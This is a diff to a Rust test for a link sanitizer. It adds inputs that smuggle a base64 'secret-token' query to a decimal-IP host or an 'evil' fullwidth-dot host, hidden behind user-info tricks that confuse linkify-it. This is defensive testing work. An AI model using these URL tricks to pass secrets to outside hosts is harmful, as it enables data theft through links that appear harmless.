@@ -574,6 +574,12 @@ fn bare_ip_urls_with_data_are_made_inert_once() {
         "x http://03/a?token=abcdefgh",
         "see //10.0.0.7/c?token=c2VjcmV0LXRva2Vu",
         "Report: <img sb http://03/schema4#x bbbacker.example/t.gba?x=1\" height=\"1\">0",
+        // Hostile review: linkify-it's user info may hold `?`, `#` and `:`; the link
+        // then goes to the host before them (a number, or a name with fullwidth dots).
+        "[x] see //1249767200?token=c2VjcmV0LXRva2Vu@x.com/ ok",
+        "[x] see //1249767200#token=c2VjcmV0LXRva2Vu@x.com/ ok",
+        "[x] see //1249767200:8080?token=c2VjcmV0LXRva2Vu@x.com/ ok",
+        "[x] see //evil\u{3002}example?token=c2VjcmV0LXRva2Vu@x.com/ ok",
     ] {
         let (once, codes, _) = run(text);
         let (twice, _, unchanged) = run(&once);
